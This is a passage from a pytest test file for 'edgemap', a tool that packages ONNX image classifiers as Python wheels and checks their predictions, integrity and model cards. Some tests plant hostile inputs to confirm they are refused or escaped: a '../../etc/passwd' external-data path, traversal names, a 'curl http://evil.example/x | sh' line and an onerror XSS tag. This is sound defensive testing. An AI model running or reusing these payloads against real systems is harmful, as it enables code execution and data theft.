"""`edgemap package`, the vendored runtime's Classifier, and the torch-free metadata reader.

The integration tests build real wheels from a tiny exported run, install them into a fresh
venv without torch (one module-scoped venv, reused), and compare the console command's
predictions with eval's path (same artifact, same preprocessing) image by image.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from test_package_support import (
    CLASSES,
    PROB_TOL,
    fresh_venv,
    make_exported_run,
    make_images,
    make_tiny_run,
    pip_install,
    venv_env,
)
from typer.testing import CliRunner

from edgemap.cli import app
from edgemap.errors import ModelFormatError, ModelIntegrityError, PackageError
from edgemap.package import PackageOptions, package, validate_name, validate_version, vendor_source
from edgemap.runtime.classifier import Classifier, softmax
from edgemap.runtime.onnx_meta import parse_model_bytes, read_metadata, read_model_meta


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> dict:
    root = tmp_path_factory.mktemp("pkg") / "my run é 日本"
    root.mkdir()
    make_images(root / "data")
    run = make_tiny_run(root / "run")
    val = sorted((root / "data" / "val").rglob("*.*"))
    return {"root": root, "run": run, "model": run.artifact_path("onnx_fp32"), "val": val, "data": root / "data"}


@pytest.fixture(scope="module")
def clf(tiny: dict) -> Classifier:
    return Classifier.from_path(tiny["model"])


# ---- onnx_meta ------------------------------------------------------------------------------
def test_metadata_reader_matches_onnx(tiny: dict) -> None:
    import onnx

    m = onnx.load(str(tiny["model"]))
    expected = {p.key: p.value for p in m.metadata_props}
    assert read_metadata(tiny["model"]) == expected
    info = parse_model_bytes(tiny["model"].read_bytes())
    assert info.ir_version == m.ir_version
    assert info.opsets["ai.onnx"] == next(o.version for o in m.opset_import if o.domain in ("", "ai.onnx"))
    meta = read_model_meta(tiny["model"])
    assert list(meta.classes) == CLASSES and meta.contract.height == 32 and meta.precision == "fp32"


@pytest.mark.parametrize("blob", [b"", b"\x00\x01\x02", b"\xff" * 40, b"\x89PNG\r\n\x1a\n" + b"\x00" * 30, b"\x3a\x05abc"])
def test_metadata_reader_refuses_garbage(tmp_path: Path, blob: bytes) -> None:
    p = tmp_path / "bad.onnx"
    p.write_bytes(blob)
    with pytest.raises(ModelFormatError, match="bad.onnx"):
        read_model_meta(p)


def test_metadata_reader_refuses_truncated_model(tiny: dict, tmp_path: Path) -> None:
    data = tiny["model"].read_bytes()
    for cut in (len(data) // 2, len(data) - 3, 7):
        p = tmp_path / f"cut{cut}.onnx"
        p.write_bytes(data[:cut])
        with pytest.raises(ModelFormatError):
            read_model_meta(p)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200))
def test_metadata_reader_fuzz_only_raises_model_format_error(blob: bytes) -> None:
    try:
        parse_model_bytes(blob)
    except ModelFormatError:
        pass


def test_model_without_edgemap_metadata_refused(tmp_path: Path) -> None:
    import onnx
    from onnx import TensorProto, helper

    g = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    p = tmp_path / "plain.onnx"
    onnx.save(helper.make_model(g), str(p))
    with pytest.raises(ModelFormatError, match="no edgemap metadata"):
        read_model_meta(p)


def test_external_data_model_refused(tiny: dict, tmp_path: Path) -> None:
    import onnx

    p = tmp_path / "ext" / "model.onnx"
    p.parent.mkdir()
    onnx.save(onnx.load(str(tiny["model"])), str(p), save_as_external_data=True, all_tensors_to_one_file=True,
              location="weights.bin", size_threshold=0)
    hostile = tmp_path / "ext" / "hostile.onnx"  # points outside its folder (onnx itself refuses to write this)
    m = onnx.load(str(tiny["model"]))
    t = m.graph.initializer[0]
    t.data_location = onnx.TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", "../../etc/passwd"
    hostile.write_bytes(m.SerializeToString())
    for model in (p, hostile):
        assert parse_model_bytes(model.read_bytes()).external_tensors
        with pytest.raises(ModelFormatError, match="external data"):
            read_model_meta(model)
        with pytest.raises(ModelFormatError, match="external data"):
            Classifier.from_path(model)


# ---- Classifier (in process) ------------------------------------------------------------------
def test_classifier_inputs_agree(clf: Classifier, tiny: dict) -> None:
    from edgemap.runtime.preprocess import preprocess_batch

    paths = tiny["val"]
    preds = clf.predict(paths, top_k=3)
    assert len(preds) == len(paths)
    x = preprocess_batch(paths, clf.contract)
    ref = softmax(clf.session.run(x))
    assert [p.index for p in preds] == list(ref.argmax(1))
    assert len({p.label for p in preds}) >= 2, "the fixture model should not predict one class for everything"
    for p, row in zip(preds, ref, strict=True):
        assert p.label == CLASSES[p.index] and abs(p.prob - row[p.index]) < 1e-9
        assert [lab for lab, _ in p.topk] == [CLASSES[i] for i in np.argsort(-row)[:3]]
        assert p.topk[0][1] >= p.topk[1][1] >= p.topk[2][1]
    # a PIL image, a uint8 array, an (N, H, W, 3) batch and a single path give the same answers
    one = paths[0]
    pil = Image.open(one)
    assert clf.predict(pil)[0].index == preds[0].index
    assert clf.predict(x[0])[0].index == preds[0].index
    assert [p.index for p in clf.predict(x, batch_size=3)] == [p.index for p in preds]
    assert clf.predict_one(one).label == preds[0].label
    # a generator of inputs is a list of images; bytes-like objects are one image each (not iterated byte by byte)
    assert [p.index for p in clf.predict(q for q in paths[:3])] == [p.index for p in preds[:3]]
    data = one.read_bytes()
    assert clf.predict(bytearray(data))[0].index == clf.predict(memoryview(data))[0].index == preds[0].index
    assert len(clf.predict(one, top_k=99)[0].topk) == len(CLASSES)
    np.testing.assert_allclose(clf.probabilities(paths).sum(1), 1.0, rtol=1e-9)


def test_classifier_refuses_tampered_model(tiny: dict, tmp_path: Path) -> None:
    from edgemap.fsutil import sha256_file

    good = sha256_file(tiny["model"])
    Classifier.from_path(tiny["model"], expected_sha256=good)  # accepted
    bad = tmp_path / "model.onnx"
    data = bytearray(tiny["model"].read_bytes())
    data[len(data) // 2] ^= 0x01  # one flipped bit in the weights
    bad.write_bytes(bytes(data))
    with pytest.raises(ModelIntegrityError, match="sha256"):
        Classifier.from_path(bad, expected_sha256=good)


def test_classifier_runtime_errors_are_clean(tiny: dict) -> None:
    from edgemap.errors import OptionError, RuntimeUnavailableError

    with pytest.raises(RuntimeUnavailableError, match="unavailable"):
        Classifier.from_path(tiny["model"], runtime="cuda")
    with pytest.raises(OptionError, match="unknown runtime"):
        Classifier.from_path(tiny["model"], runtime="tpu")


# ---- validation ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["../x", "a/b", "a\\b", "", "-x", "x-", "a b", "1abc", "x..", "numpy", "edgemap",
                                  "json", "edgemap-runtime", "é", "a:b", "/abs", "class",
                                  # what onnxruntime, openvino or Pillow import on the device
                                  "packaging", "flatbuffers", "Google", "protobuf", "sympy", "coloredlogs",
                                  "openvino-telemetry", "defusedxml"])
def test_bad_names_refused(name: str) -> None:
    with pytest.raises(PackageError, match="--name"):
        validate_name(name)


@pytest.mark.parametrize(("name", "norm", "module"), [
    ("Digits_Classifier", "digits-classifier", "digits_classifier"),
    ("a.b-c", "a-b-c", "a_b_c"),
    ("x1", "x1", "x1"),
])
def test_good_names(name: str, norm: str, module: str) -> None:
    assert validate_name(name) == (norm, module)


@pytest.mark.parametrize("version", ["1.0/../../x", "", "abc", " 1.0", "1.0 ", "../1", "1.0+a/b", "1..0"])
def test_bad_versions_refused(version: str) -> None:
    with pytest.raises(PackageError, match="--version"):
        validate_version(version)


@pytest.mark.parametrize(("version", "norm"), [("1.0", "1.0"), ("1.0.0rc1", "1.0.0rc1"), ("2!1.0+build.7", "2!1.0+build.7"),
                                               ("1.0-alpha", "1.0a0")])
def test_good_versions(version: str, norm: str) -> None:
    assert validate_version(version) == norm


@pytest.mark.parametrize(("name", "version"), [("../x", "1.0"), ("a/b", "1.0"), ("ok", "1.0/../../x")])
def test_package_refuses_bad_name_or_version_writes_nothing(tiny: dict, tmp_path: Path, name: str, version: str) -> None:
    out = tmp_path / "out"
    with pytest.raises(PackageError):
        package(tiny["run"].path, PackageOptions(name=name, version=version, out=out))
    assert not out.exists() or not any(out.iterdir())
    assert not (tmp_path / "x").exists()


def test_package_refuses_missing_int8_and_tampered_artifact(tiny: dict, tmp_path: Path) -> None:
    with pytest.raises(PackageError, match="export"):
        package(tiny["run"].path, PackageOptions(precision="int8", out=tmp_path))
    with pytest.raises(PackageError, match="--runtime"):
        package(tiny["run"].path, PackageOptions(runtime="tflite", out=tmp_path))
    # a copy of the run whose model was edited after export
    import shutil

    copy = tmp_path / "run copy"
    shutil.copytree(tiny["run"].path, copy)
    with open(copy / "model.onnx", "ab") as f:
        f.write(b"\x00")
    with pytest.raises(ModelIntegrityError, match="sha256"):
        package(copy, PackageOptions(out=tmp_path / "dist"))
    assert not (tmp_path / "dist").exists()


def test_vendor_source_rewrites_and_refuses() -> None:
    src = "from edgemap.runtime.errors import X\nimport edgemap.runtime.sessions as s\nfrom edgemap.runtime import metadata\n"
    out = vendor_source(src, "pkg", "f.py")
    assert out == "from pkg.errors import X\nimport pkg.sessions as s\nfrom pkg import metadata\n"
    with pytest.raises(PackageError, match="outside"):
        vendor_source("from edgemap.errors import PackageError\n", "pkg", "f.py")
    with pytest.raises(PackageError, match="torch"):
        vendor_source("import torch\n", "pkg", "f.py")


def test_a_run_directory_named_by_a_number_packages_under_a_usable_default_name(tiny: dict, tmp_path: Path) -> None:
    """runs/2024 made the default name '2024-classifier', refused (a module cannot start with a digit): `edgemap run`
    failed there after training, evaluating and benchmarking."""
    run = tmp_path / "2024"
    shutil.copytree(tiny["run"].path, run)
    r = package(run, PackageOptions(out=tmp_path / "dist"))
    assert (r.name, r.module) == ("run-2024-classifier", "run_2024_classifier")


def test_cli_package_errors_and_success(tiny: dict, tmp_path: Path) -> None:
    runner = CliRunner()
    r = runner.invoke(app, ["package", str(tiny["run"].path), "--name", "../evil", "--out", str(tmp_path)])
    assert r.exit_code == 2 and "--name" in r.output and "Traceback" not in r.output
    r = runner.invoke(app, ["package", str(tiny["run"].path), "--version", "1.0/../../x", "--out", str(tmp_path)])
    assert r.exit_code == 2 and "--version" in r.output
    r = runner.invoke(app, ["package", str(tiny["run"].path), "--name", "cli-pkg", "--out", str(tmp_path)])
    assert r.exit_code == 0, r.output
    sha = tiny["run"].artifacts["onnx_fp32"]["sha256"]  # fp32: the only model of this run
    made = [p.name for p in tmp_path.glob("cli_pkg-*.whl")]
    assert "pip install" in r.output and len(made) == 1, (made, r.output)
    assert re.fullmatch(rf"cli_pkg-0\.1\.0\.20\d{{12}}\+onnxruntime\.m{sha[:12]}-py3-none-any\.whl", made[0]), made
    assert f"sha256 {sha}" in " ".join(r.output.split())  # whole: what `edgemap-runtime --sha256` takes
    assert "comes from the run folder" not in r.output  # named by the user
    # the name it was given is recorded (a later bare package or `edgemap run` keeps it) ...
    r = runner.invoke(app, ["package", str(tiny["run"].path), "--out", str(tmp_path / "kept")])
    assert r.exit_code == 0 and list((tmp_path / "kept").glob("cli_pkg-*.whl")), r.output
    # ... and a run never given one is named after its folder: a retrain into another folder installs beside it
    fresh = tmp_path / "fresh run"
    shutil.copytree(tiny["run"].path, fresh)
    d = json.loads((fresh / "edgemap.json").read_text())
    d["options"].get("run", {}).pop("package", None)
    (fresh / "edgemap.json").write_text(json.dumps(d))
    r = runner.invoke(app, ["package", str(fresh), "--out", str(tmp_path / "default")])
    assert r.exit_code == 0 and "comes from the run folder" in r.output and "same --name" in " ".join(r.output.split())


def test_wheels_of_two_models_never_share_a_version_so_pip_replaces_the_model(venv: Path, exported: dict,
                                                                               tmp_path: Path) -> None:
    """Two models packaged under one name with the default version were both 0.1.0: on a device that had the
    first, `pip install` of the second said "already installed with the same version" and the device went on with the
    old model. Then a `+m<sha>` label alone: `pip install -U` from a wheelhouse chose by the hex digits, and one fp32
    model packaged for the CPU and for CUDA shared a version."""
    import time

    from edgemap.export import ExportOptions, export

    run = exported["run"]
    first = package(run.path, PackageOptions(name="swap-clf", precision="fp32", out=tmp_path / "wh"))
    second = package(run.path, PackageOptions(name="swap-clf", precision="int8", out=tmp_path / "wh"))
    gpu = package(run.path, PackageOptions(name="swap-clf", runtime="cuda", out=tmp_path / "gpu"))
    created = run.artifacts["onnx_fp32"]["created"]
    stamp = re.sub(r"\D", "", created)[:14]
    assert first.version == f"0.1.0.{stamp}+onnxruntime.m{first.model_sha256[:12]}", (first.version, created)
    assert len({first.version, second.version, gpu.version}) == 3 and gpu.version.endswith(first.version[-13:])
    probe = "import swap_clf; print(swap_clf.__version__, swap_clf.load().sha256)"

    def installed() -> list[str]:
        r = _run(venv, str(venv), "-c", probe)
        assert r.returncode == 0, r.stderr
        return r.stdout.split()

    for w in (first, second):
        pip_install(venv, "--no-deps", str(w.wheel))  # as a device updates: the plain command, no --force-reinstall
        assert installed() == [w.version, w.model_sha256]
    # a later export (another calibration: another int8 model) is a higher version: -U from a wheelhouse takes it
    later = tmp_path / "later"
    shutil.copytree(run.path, later)
    time.sleep(1.1)  # the version's clock has whole seconds
    export(later, ExportOptions(int8=True, calib_size=16))
    newer = package(later, PackageOptions(name="swap-clf", precision="int8", out=tmp_path / "wh"))
    assert newer.model_sha256 != second.model_sha256
    pip_install(venv, "--no-deps", str(first.wheel))  # the oldest model
    pip_install(venv, "--no-deps", "--no-index", "-U", "--find-links", str(tmp_path / "wh"), "swap-clf")
    assert installed() == [newer.version, newer.model_sha256]
    # a version given by the user is kept as given
    assert package(run.path, PackageOptions(name="swap-clf", version="2.0", out=tmp_path / "c")).version == "2.0"


# ---- wheels from a really exported run, in a fresh venv without torch ---------------------
@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """finetune (tiny, short) → export --int8 → eval → bench → package (int8 model wheel + edgemap-runtime)."""
    from edgemap.bench import BenchOptions, bench
    from edgemap.evaluate import EvalOptions, evaluate

    root = tmp_path_factory.mktemp("exported") / "run é 日本"
    root.mkdir()
    run, val = make_exported_run(root)
    evaluate(run, EvalOptions(runtimes=("torch", "cpu"), precisions=("fp32", "int8")))
    bench(run, BenchOptions(runtimes=("cpu",), precisions=("fp32", "int8"), batches=(1,), warmup=2, iters=10))
    out = root / "dist"
    model_wheel = package(run.path, PackageOptions(name="tiny-clf", version="1.2.3", out=out))
    runtime_wheel = package(None, PackageOptions(runtime_only=True, out=out))
    return {"run": run, "val": val, "model": model_wheel, "runtime": runtime_wheel}


@pytest.fixture(scope="module")
def venv(exported: dict, tmp_path_factory: pytest.TempPathFactory) -> Path:
    py = fresh_venv(tmp_path_factory.mktemp("venv") / "v")
    pip_install(py, str(exported["model"].wheel), str(exported["runtime"].wheel))
    return py


def _run(py: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([*args], capture_output=True, text=True, env=venv_env(py), cwd=py.parent.parent)


def _eval_probs(run, paths: list[Path], precision: str) -> np.ndarray:  # noqa: ANN001
    """What `edgemap eval` computes for its cpu row: the run's artifact on the once-preprocessed batch."""
    from edgemap.evaluate import open_session
    from edgemap.runtime.preprocess import preprocess_batch

    sess = open_session(run, "cpu", precision, None)
    x = preprocess_batch(paths, run.contract)
    return softmax(np.concatenate([sess.run(x[i:i + 32]) for i in range(0, len(x), 32)]))


def test_wheel_contents_size_and_card(exported: dict) -> None:
    w = exported["model"]
    assert w.precision == "int8" and w.runtime == "onnxruntime"  # int8 by default when exported
    assert w.wheel_bytes <= w.model_bytes + 100 * 1024, (w.wheel_bytes, w.model_bytes)
    with zipfile.ZipFile(w.wheel) as z:
        names = z.namelist()
        meta = z.read("tiny_clf-1.2.3.dist-info/METADATA").decode()
        info = json.loads(z.read("tiny_clf/model.json"))
        card = z.read("tiny_clf/MODEL_CARD.md").decode()
        init = z.read("tiny_clf/__init__.py").decode()
    assert "OptionError" in init and "InferenceError" in init  # a device script can catch what the runtime raises
    assert all(n.startswith(("tiny_clf/", "tiny_clf-1.2.3.dist-info/")) for n in names)
    assert not any("__pycache__" in n or n.endswith(".pyc") or "test" in n for n in names)
    reqs = sorted(line.split(":", 1)[1].strip() for line in meta.splitlines() if line.startswith("Requires-Dist:"))
    import PIL

    major = int(PIL.__version__.split(".")[0])  # the Pillow series the model was exported with: the same pixels
    pillow = {">=11.2", "<12"} if major == 11 else {f">={major}.0", f"<{major + 1}"}
    assert reqs[:2] == ["numpy>=1.24", "onnxruntime>=1.18.1"]
    assert reqs[2].startswith("pillow") and set(reqs[2].removeprefix("pillow").split(",")) == pillow, reqs
    assert "PillowVersionWarning" in init
    run = exported["run"]
    assert info["sha256"] == w.model_sha256 == run.artifacts["onnx_int8_qoperator"]["sha256"]
    assert info["classes"] == run.classes and info["format"] == "qoperator"
    assert info["max_pixels"] == run.max_pixels  # the device decodes with the limit the model was trained with
    assert card in meta  # the model card is also the wheel's long description
    acc = card.split("## Accuracy")[1].split("## Latency")[0]
    lat = card.split("## Latency")[1].split("## Input contract")[0]
    assert "| torch | fp32 |" in acc and "| cpu | int8 |" in acc and "| cpu | fp32 |" in acc
    assert "| cpu | int8 | int8 | 1 |" in lat and "not measured" not in card  # runtime, precision, computed in, batch
    assert "Measured on " in acc and ("(test, " in acc or "(val, " in acc)  # which images the accuracy is of
    # percent, as `edgemap eval` and the report print it ("accuracy 1" read as 1 %), and latency rows say their mode
    assert "| accuracy % |" in acc and "| agreement % |" in acc and "| mode |" in lat
    assert "e+0" not in card  # 33450 img/s, not 3.345e+04
    assert f"(N, {run.contract.height}, {run.contract.width}, 3)" in card
    assert exported["runtime"].name == "edgemap-runtime" and exported["runtime"].model_bytes is None


def test_card_leaves_out_results_of_a_replaced_model(exported: dict, tmp_path: Path) -> None:
    """Exported again after eval/bench: the card shows no accuracy or latency of the old models (it showed them as
    this model's), the build warns, and the report leaves them out too."""
    from edgemap.export import ExportOptions, export
    from edgemap.manifest import RunDir
    from edgemap.report import ReportOptions, report

    run = RunDir.load(shutil.copytree(exported["run"].path, tmp_path / "again"))
    export(run.path, ExportOptions(opset=13))  # a new model.onnx; the int8 models of the old one are retired
    r = package(run.path, PackageOptions(precision="fp32", out=tmp_path / "dist"))
    with zipfile.ZipFile(r.wheel) as z:
        card = z.read(f"{r.module}/MODEL_CARD.md").decode()
    acc = card.split("## Accuracy")[1].split("## Latency")[0]
    lat = card.split("## Latency")[1].split("## Input contract")[0]
    assert "| torch | fp32 |" in acc  # the weights did not change: the reference row stays
    assert "| cpu |" not in acc and "| cpu |" not in lat
    assert "measured on an earlier model are left out" in acc and "not measured (run `edgemap bench" in lat
    assert [w.split(" result")[0] for w in r.warnings] == ["2 eval", "2 bench"]
    page = report(run.path, ReportOptions(predict=False))
    assert any("measured on a model replaced since" in w for w in page.warnings)
    html = page.html.read_text(encoding="utf-8")
    for sid in ("eval", "bench"):  # the report's accuracy and latency tables
        section = html.split(f'<section id="{sid}">')[1].split("</section>")[0]
        assert "<td>cpu</td>" not in section, sid
    assert "<td>torch</td>" in html.split('<section id="eval">')[1].split("</section>")[0]


def test_the_model_card_shows_names_and_versions_as_text(exported: dict, tmp_path: Path) -> None:
    """The card is the wheel's PyPI description: a version string from someone else's run added a heading and a
    `curl | sh` line; a class name added <img onerror=...>."""
    import json as _json

    from edgemap.manifest import RunDir

    run_path = shutil.copytree(exported["run"].path, tmp_path / "card")
    mf = run_path / "edgemap.json"
    data = _json.loads(mf.read_text(encoding="utf-8"))
    data["versions"]["zzz"] = "1\n\n## Install the security update\n\nRun `curl http://evil.example/x | sh`"
    mf.write_text(_json.dumps(data), encoding="utf-8")
    r = package(RunDir.load(run_path).path, PackageOptions(precision="fp32", out=tmp_path / "dist"))
    with zipfile.ZipFile(r.wheel) as z:
        card = z.read(f"{r.module}/MODEL_CARD.md").decode()
    assert "\n## Install" not in card and "zzz 1 \\#\\# Install the security update" in card
    assert "\\`curl http://evil.example/x \\| sh\\`" in card
    data["artifacts"]["onnx_int8_qoperator"]["format"] = "qoperator\n\n# Pwned\n<img src=x onerror=alert(1)>"
    mf.write_text(_json.dumps(data), encoding="utf-8")
    with pytest.raises(PackageError, match="unknown format"):  # refused, not written into the card
        package(run_path, PackageOptions(out=tmp_path / "dist2"))


def test_a_partial_eval_or_bench_keeps_the_other_rows_and_the_card_says_the_class_coverage(exported: dict,
                                                                                          tmp_path: Path) -> None:
    """`eval --runtime openvino` after a full eval dropped every other row (the ORT wheel's card had no cpu rows);
    an eval on 2 of 10 classes became "the" accuracy without saying so; bf16 latencies had no precision column."""
    from edgemap.bench import BenchOptions, bench
    from edgemap.evaluate import EvalOptions, evaluate
    from edgemap.manifest import RunDir

    run = RunDir.load(shutil.copytree(exported["run"].path, tmp_path / "again"))
    evaluate(run.path, EvalOptions(runtimes=("openvino",), precisions=("int8",)))
    rows = RunDir.load(run.path).data["metrics"]["eval"]["rows"]
    assert {(r["runtime"], r["precision"]) for r in rows} >= {("torch", "fp32"), ("cpu", "int8"), ("openvino", "int8")}
    bench(run.path, BenchOptions(runtimes=("openvino",), precisions=("int8",), batches=(1,), warmup=1, iters=3))
    rows = RunDir.load(run.path).data["metrics"]["bench"]["rows"]
    assert {(r["runtime"], r["precision"]) for r in rows} >= {("cpu", "int8"), ("openvino", "int8")}
    one_class = tmp_path / "subset"
    shutil.copytree(exported["val"][0].parent, one_class / exported["val"][0].parent.name)
    evaluate(run.path, EvalOptions(data=one_class, runtimes=("cpu",), precisions=("int8",)))  # other images: replaced
    assert len(RunDir.load(run.path).data["metrics"]["eval"]["rows"]) == 1
    r = package(run.path, PackageOptions(out=tmp_path / "dist"))
    with zipfile.ZipFile(r.wheel) as z:
        card = z.read(f"{r.module}/MODEL_CARD.md").decode()
    n = len(run.classes)
    assert "Measured on subset \\(all, " in card and f", 1 of {n} classes." in card  # markdown-escaped
    assert "| inference_precision |" in card.split("## Latency")[1]


@pytest.mark.slow
def test_venv_has_no_torch_nor_edgemap(venv: Path) -> None:
    for mod in ("torch", "edgemap", "onnx"):
        r = _run(venv, str(venv), "-c", f"import {mod}")
        assert r.returncode != 0 and "ModuleNotFoundError" in r.stderr, mod
    r = _run(venv, str(venv), "-c", "import tiny_clf, edgemap_runtime, sys; print(sorted(m for m in sys.modules if m.split('.')[0] in ('torch', 'edgemap', 'onnx')))")
    assert r.returncode == 0 and r.stdout.strip() == "[]", r.stderr


@pytest.mark.slow
@pytest.mark.parametrize(("form", "precision"), [("model wheel", "int8"), ("edgemap-runtime", "int8"),
                                                 ("edgemap-runtime", "fp32")])
def test_installed_command_matches_eval(venv: Path, exported: dict, form: str, precision: str) -> None:
    run, paths = exported["run"], exported["val"]
    key = "onnx_int8_qoperator" if precision == "int8" else "onnx_fp32"
    if form == "model wheel":
        cmd = [str(venv.parent / "tiny-clf")]
    else:
        cmd = [str(venv.parent / "edgemap-runtime"), str(run.artifact_path(key)), "--sha256", run.artifacts[key]["sha256"]]
    r = _run(venv, *cmd, *map(str, paths), "--json", "--top-k", "3")
    assert r.returncode == 0, r.stderr
    rows = json.loads(r.stdout)
    ref = _eval_probs(run, paths, precision)
    assert [row["image"] for row in rows] == [str(p) for p in paths]
    assert len({row["label"] for row in rows}) == len(run.classes)  # a trained model: every class predicted
    for row, probs in zip(rows, ref, strict=True):
        assert row["index"] == int(probs.argmax()), row["image"]
        assert row["label"] == run.classes[row["index"]]
        for t in row["topk"]:
            assert abs(t["prob"] - probs[run.classes.index(t["label"])]) <= PROB_TOL
    # text output with a folder argument agrees too
    r = _run(venv, *cmd, str(paths[0].parent.parent))
    lines = [ln.split("\t") for ln in r.stdout.strip().splitlines()]
    assert r.returncode == 0 and [ln[1] for ln in lines] == [row["label"] for row in rows]


@pytest.mark.slow
def test_installed_python_api(venv: Path, exported: dict) -> None:
    code = (
        "import json, sys, tiny_clf\n"
        "clf = tiny_clf.load()\n"
        "preds = clf.predict(sys.argv[1:], top_k=2)\n"
        "print(json.dumps([[p.label, p.prob] for p in preds]))\n"
    )
    r = _run(venv, str(venv), "-c", code, *map(str, exported["val"]))
    assert r.returncode == 0, r.stderr
    ref = _eval_probs(exported["run"], exported["val"], "int8")
    got = json.loads(r.stdout)
    assert [lab for lab, _ in got] == [exported["run"].classes[i] for i in ref.argmax(1)]
    assert max(abs(p - ref[i].max()) for i, (_, p) in enumerate(got)) <= PROB_TOL
    # every error class the runtime raises is importable from the wheel's package (the list was kept by hand)
    import inspect

    from edgemap.runtime import errors

    raised = sorted(n for n, c in vars(errors).items() if inspect.isclass(c) and issubclass(c, Exception))
    assert errors.__all__ == raised
    probe = f"import tiny_clf; print(all(issubclass(getattr(tiny_clf, n), tiny_clf.EdgemapError) for n in {raised!r}))"
    r = _run(venv, str(venv), "-c", probe)
    assert r.stdout.strip() == "True", r.stdout + r.stderr


@pytest.mark.slow
def test_installed_refuses_tampered_model_and_bad_images(venv: Path, exported: dict, tmp_path: Path) -> None:
    r = _run(venv, str(venv), "-c", "import tiny_clf; print(tiny_clf.PACKAGE_DIR)")
    model = Path(r.stdout.strip()) / "model.onnx"
    good_img = str(exported["val"][0])
    bad_img = tmp_path / "broken é.jpg"
    bad_img.write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg")
    r = _run(venv, str(venv.parent / "tiny-clf"), good_img, str(bad_img))
    assert r.returncode == 1 and "broken é.jpg" in r.stderr and "Traceback" not in r.stderr
    assert len(r.stdout.strip().splitlines()) == 1  # the good image is still classified
    original = model.read_bytes()
    try:
        data = bytearray(original)
        data[len(data) // 2] ^= 0x01
        model.write_bytes(bytes(data))
        r = _run(venv, str(venv.parent / "tiny-clf"), good_img)
        assert r.returncode == 2 and "sha256" in r.stderr and "Traceback" not in r.stderr
        r = _run(venv, str(venv), "-c", "import tiny_clf; tiny_clf.load()")
        assert r.returncode != 0 and "ModelIntegrityError" in r.stderr
    finally:
        model.write_bytes(original)
    model_file = str(exported["run"].artifact_path("onnx_fp32"))
    r = _run(venv, str(venv.parent / "edgemap-runtime"), model_file, good_img, "--sha256", "0" * 64)
    assert r.returncode == 2 and "sha256" in r.stderr
    import hashlib

    right = hashlib.sha256(Path(model_file).read_bytes()).hexdigest()
    near = right[:63] + ("0" if right[63] != "0" else "1")  # differs in the last character only
    r = _run(venv, str(venv.parent / "edgemap-runtime"), model_file, good_img, "--sha256", near)
    assert r.returncode == 2 and f"sha256 {right} is not the expected {near}" in r.stderr, r.stderr  # in full
    r = _run(venv, str(venv.parent / "edgemap-runtime"), model_file, good_img, "--sha256", f"{right}  {model_file}")
    assert r.returncode == 0, r.stderr  # a pasted `sha256sum` line
    r = _run(venv, str(venv.parent / "edgemap-runtime"), model_file, good_img, "--sha256", f"\\{right}  m\\\\x.onnx")
    assert r.returncode == 0, r.stderr  # sha256sum's line for a file name holding a backslash starts with one




@pytest.mark.slow
def test_example_device_script_writes_csv(venv: Path, exported: dict, tmp_path: Path) -> None:
    import csv

    script = Path(__file__).resolve().parents[1] / "examples" / "device_classify_folder.py"
    folder = exported["val"][0].parent.parent  # DATA/val
    out = tmp_path / "out é.csv"
    r = _run(venv, str(venv), str(script), str(folder), str(out), "--module", "tiny_clf", "--top-k", "2", "--batch", "5")
    assert r.returncode == 0, r.stderr
    with open(out, encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [row["path"] for row in rows] == [str(p) for p in exported["val"]]
    ref = _eval_probs(exported["run"], exported["val"], "int8")
    assert [row["label"] for row in rows] == [exported["run"].classes[i] for i in ref.argmax(1)]
    assert all(row["label_2"] and not row["error"] for row in rows)
    # listed as training lists a folder (__MACOSX skipped); a name that is not UTF-8 is escaped, not a crash
    import os
    import shutil

    odd = tmp_path / "odd"
    shutil.copytree(folder, odd)
    (odd / "__MACOSX").mkdir()
    shutil.copy(exported["val"][0], odd / "__MACOSX" / "x.png")
    with open(os.fsencode(odd) + b"/caf\xe9.png", "wb") as f:
        f.write(exported["val"][0].read_bytes())
    r = _run(venv, str(venv), str(script), str(odd), str(out), "--module", "tiny_clf")
    assert r.returncode == 0, r.stderr
    with open(out, encoding="utf-8") as f:
        paths = [row["path"] for row in csv.DictReader(f)]
    assert len(paths) == len(exported["val"]) + 1 and str(odd / "caf\\xe9.png") in paths
    r = _run(venv, str(venv), str(script), str(odd), str(out), "--module", "tiny_clf", "--batch", "0")
    assert r.returncode == 2 and "--batch" in r.stderr and "Traceback" not in r.stderr
    # a wheel that is not installed, or a model that cannot load: one error line, exit 2 (tracebacks before)
    r = _run(venv, str(venv), str(script), str(odd), str(out), "--module", "no_such_clf")
    assert r.returncode == 2 and "no module named 'no_such_clf'" in r.stderr and "Traceback" not in r.stderr
    r = _run(venv, str(venv), str(script), str(odd), str(out), "--module", "tiny_clf", "--runtime", "tpu")
    assert r.returncode == 2 and r.stderr.startswith("error: ") and "tpu" in r.stderr and "Traceback" not in r.stderr
    # the distribution name (what pip and the command say) works as the import name
    r = _run(venv, str(venv), str(script), str(odd), str(out), "--module", "tiny-clf")
    assert r.returncode == 0, r.stderr
    # a module that is no edgemap wheel, a misspelled folder, a CSV that cannot be written: one line, exit 2
    for args, said in (([str(odd), str(out), "--module", "json"], "is not a wheel made by `edgemap package`"),
                       ([str(odd / "nope"), str(out), "--module", "tiny_clf"], "nope: no such folder"),
                       ([str(odd), str(tmp_path / "f.csv" / "x.csv"), "--module", "tiny_clf"], "cannot write")):
        (tmp_path / "f.csv").write_text("a file where a folder is needed")
        r = _run(venv, str(venv), str(script), *args)
        assert r.returncode == 2 and said in r.stderr and "Traceback" not in r.stderr, (args, r.stderr)


def test_metadata_that_does_not_match_the_graph_is_one_clear_error(tiny: dict, tmp_path: Path) -> None:
    import onnx

    from edgemap.export.onnx_export import set_metadata
    from edgemap.runtime import metadata as K

    m = onnx.load(str(tiny["model"]))
    pre = json.loads({p.key: p.value for p in m.metadata_props}[K.PREPROCESS])
